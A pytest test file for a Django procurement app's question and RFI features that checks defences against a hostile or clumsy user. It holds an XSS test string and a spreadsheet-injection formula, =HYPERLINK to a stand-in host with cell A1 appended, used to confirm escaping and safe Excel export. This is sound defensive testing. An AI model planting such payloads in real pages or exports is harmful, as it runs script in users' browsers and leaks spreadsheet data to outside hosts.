"""A hostile or clumsy user against market dialogue and tender questions: huge texts, script,
other suppliers' questions and answers, queries per row."""

import datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from beredd.accounts.models import Organisation, OrganisationKind, Role, SizeClass
from beredd.dialogue.models import Question, RequestForInformation, RfiAnswer
from beredd.procurement.models import Status
from tests.conftest import make_user
from tests.test_publication_data import make_tender

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert('x')</script>"
TOO_LONG = "ord " * 5000  # 20 000 characters


@pytest.fixture
def tender(buyer_org):
    return make_tender(buyer_org, "Bröd till skolor")


@pytest.fixture
def draft(buyer_org):
    return make_tender(buyer_org, "Bröd 2027", status=Status.DRAFT)


@pytest.fixture
def rfi(draft, procurer) -> RequestForInformation:
    return RequestForInformation.objects.create(
        procurement=draft,
        title="Delområden",
        questions="Hur många kök kan ni leverera till?",
        answer_deadline=timezone.localdate() + datetime.timedelta(days=14),
        created_by=procurer,
    )


def org_number(number: int) -> str:
    """A valid Swedish organisation number (Luhn check digit), one per `number`."""
    digits = f"556{number:06d}"
    total = 0
    for index, digit in enumerate(int(d) for d in digits):
        doubled = digit * 2 if index % 2 == 0 else digit
        total += doubled - 9 if doubled > 9 else doubled
    full = digits + str((10 - total % 10) % 10)
    return f"{full[:6]}-{full[6:]}"


def another_supplier(number: int) -> Organisation:
    return Organisation.objects.create(
        name=f"Leverantör {number} AB",
        slug=f"leverantor-{number}",
        kind=OrganisationKind.SUPPLIER,
        org_number=org_number(100 + number),
        size_class=SizeClass.SMALL,
    )


def _count_queries(client, url: str) -> int:
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def test_a_question_longer_than_the_limit_is_refused_beside_the_field(client, bid_manager, tender):
    client.force_login(bid_manager)
    url = reverse("dialogue:question_ask", args=[tender.pk])
    response = client.post(url, {"text": TOO_LONG})
    assert response.status_code == 200
    assert "text" in response.context["form"].errors
    assert not Question.objects.exists()


def test_an_rfi_answer_or_buyer_answer_longer_than_the_limit_is_refused(
    client, bid_manager, procurer, rfi, tender
):
    client.force_login(bid_manager)
    response = client.post(reverse("dialogue:rfi_detail", args=[rfi.pk]), {"text": TOO_LONG * 3})
    assert "text" in response.context["form"].errors
    assert not RfiAnswer.objects.exists()
    question = Question.objects.create(
        procurement=tender, organisation=bid_manager.organisation, text="?"
    )
    client.force_login(procurer)
    url = reverse("dialogue:question_answer", args=[question.pk])
    response = client.post(url, {"public_text": "?", "answer": TOO_LONG * 3, "publish": "on"})
    assert "answer" in response.context["form"].errors
    question.refresh_from_db()
    assert question.published_at is None


def test_script_in_questions_and_answers_is_shown_as_text_everywhere(
    client, bid_manager, procurer, tender, rfi
):
    question = Question.objects.create(
        procurement=tender,
        organisation=bid_manager.organisation,
        text=SCRIPT,
        public_text=SCRIPT,
        answer=SCRIPT,
        published_at=timezone.now(),
    )
    RfiAnswer.objects.create(rfi=rfi, organisation=bid_manager.organisation, text=SCRIPT)
    pages = {
        procurer: [
            reverse("dialogue:question_list"),
            reverse("dialogue:question_answer", args=[question.pk]),
            reverse("dialogue:rfi_detail", args=[rfi.pk]),
        ],
        bid_manager: [
            reverse("dialogue:question_list"),
            reverse("dialogue:rfi_detail", args=[rfi.pk]),
        ],
        None: [reverse("publication:detail", args=[tender.pk])],
    }
    for user, urls in pages.items():
        client.logout()
        if user:
            client.force_login(user)
        for url in urls:
            text = client.get(url).content.decode()
            assert SCRIPT not in text, url


def test_a_supplier_never_sees_another_suppliers_question_or_rfi_answer(
    client, bid_manager, tender, rfi
):
    rival = another_supplier(1)
    Question.objects.create(procurement=tender, organisation=rival, text="Rivalens fråga")
    RfiAnswer.objects.create(rfi=rfi, organisation=rival, text="Rivalens svar")
    client.force_login(bid_manager)
    for url in (
        reverse("dialogue:question_list"),
        reverse("dialogue:rfi_detail", args=[rfi.pk]),
        reverse("dialogue:rfi_list"),
        reverse("publication:detail", args=[tender.pk]),
    ):
        text = client.get(url).content.decode()
        assert "Rivalens" not in text, url
    rival_question = Question.objects.get(organisation=rival)
    url = reverse("dialogue:question_answer", args=[rival_question.pk])
    assert client.get(url).status_code == 403
    assert client.get(reverse("dialogue:rfi_export", args=[rfi.pk])).status_code == 403


def test_the_buyer_question_list_does_not_query_per_question(client, procurer, tender):
    client.force_login(procurer)
    url = reverse("dialogue:question_list")
    Question.objects.create(procurement=tender, organisation=another_supplier(0), text="?")
    few = _count_queries(client, url)
    for number in range(1, 6):
        supplier = another_supplier(number)
        asker = make_user(f"anbud{number}", supplier, [Role.BID_MANAGER])
        Question.objects.create(procurement=tender, organisation=supplier, asked_by=asker, text="?")
    assert _count_queries(client, url) == few


def test_the_supplier_question_list_does_not_query_per_question(
    client, bid_manager, buyer_org, other_org
):
    client.force_login(bid_manager)
    url = reverse("dialogue:question_list")
    tender = make_tender(buyer_org, "Bröd 0")
    Question.objects.create(procurement=tender, organisation=bid_manager.organisation, text="?")
    few = _count_queries(client, url)
    for number in range(1, 6):
        tender = make_tender(other_org, f"Bröd {number}")
        Question.objects.create(procurement=tender, organisation=bid_manager.organisation, text="?")
    assert _count_queries(client, url) == few


def test_rfi_lists_and_answers_do_not_query_per_row(client, procurer, bid_manager, buyer_org, rfi):
    RfiAnswer.objects.create(rfi=rfi, organisation=another_supplier(0), text="Svar")
    urls = {
        procurer: [reverse("dialogue:rfi_list"), reverse("dialogue:rfi_detail", args=[rfi.pk])],
        bid_manager: [reverse("dialogue:rfi_list")],
    }
    before = {}
    for user, pages in urls.items():
        client.force_login(user)
        before[user] = [_count_queries(client, url) for url in pages]
    for number in range(1, 6):
        draft = make_tender(buyer_org, f"Utkast {number}", status=Status.DRAFT)
        RequestForInformation.objects.create(
            procurement=draft,
            title=f"RFI {number}",
            questions="?",
            answer_deadline=timezone.localdate() + datetime.timedelta(days=5),
        )
        supplier = another_supplier(number)
        RfiAnswer.objects.create(
            rfi=rfi,
            organisation=supplier,
            answered_by=make_user(f"svar{number}", supplier, [Role.BID_MANAGER]),
            text="Svar",
        )
    for user, pages in urls.items():
        client.force_login(user)
        assert [_count_queries(client, url) for url in pages] == before[user], user


def test_an_rfi_answer_that_looks_like_a_formula_stays_text_in_the_excel_export(
    client, procurer, bid_manager, rfi
):
    from io import BytesIO

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
    RfiAnswer.objects.create(rfi=rfi, organisation=bid_manager.organisation, text=formula)
    client.force_login(procurer)
    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
    sheet = load_workbook(BytesIO(response.content)).active
    cell = sheet.cell(row=2, column=6)
    assert cell.value == formula
    assert cell.data_type == "s"


def test_an_rfi_answer_pasted_with_control_characters_does_not_break_the_export(
    client, procurer, bid_manager, rfi
):
    from io import BytesIO

    from openpyxl import load_workbook

    client.force_login(bid_manager)
    pasted = "Rad ett\x0bRad två\x1f"
    client.post(reverse("dialogue:rfi_detail", args=[rfi.pk]), {"text": pasted})
    assert RfiAnswer.objects.exists()
    client.force_login(procurer)
    response = client.get(reverse("dialogue:rfi_export", args=[rfi.pk]))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    assert "Rad två" in sheet.cell(row=2, column=6).value


def test_a_published_question_may_not_name_the_supplier_that_asked(
    client, procurer, bid_manager, tender
):
    question = Question.objects.create(
        procurement=tender,
        organisation=bid_manager.organisation,
        asked_by=bid_manager,
        text="Vi på Bageriet undrar om helger.",
    )
    name = bid_manager.organisation.name
    client.force_login(procurer)
    url = reverse("dialogue:question_answer", args=[question.pk])
    response = client.post(
        url,
        {"public_text": f"{name.upper()} undrar om helger.", "answer": "Ja.", "publish": "on"},
    )
    assert response.status_code == 200
    assert "public_text" in response.context["form"].errors
    question.refresh_from_db()
    assert question.published_at is None
    response = client.post(
        url, {"public_text": "Gäller leveranser helger?", "answer": "Ja.", "publish": "on"}
    )
    assert response.status_code == 302
    question.refresh_from_db()
    assert question.published_at is not None


def test_an_rfi_whose_answers_would_come_after_the_planned_publication_is_refused(
    client, procurer, draft
):
    draft.publication_date = timezone.localdate() + datetime.timedelta(days=5)
    draft.save()
    client.force_login(procurer)
    data = {
        "procurement": draft.pk,
        "title": "Lager",
        "questions": "Hur många dagars lager?",
        "answer_deadline": (timezone.localdate() + datetime.timedelta(days=10)).isoformat(),
    }
    response = client.post(reverse("dialogue:rfi_create"), data)
    assert response.status_code == 200
    assert "answer_deadline" in response.context["form"].errors
    assert not RequestForInformation.objects.filter(title="Lager").exists()
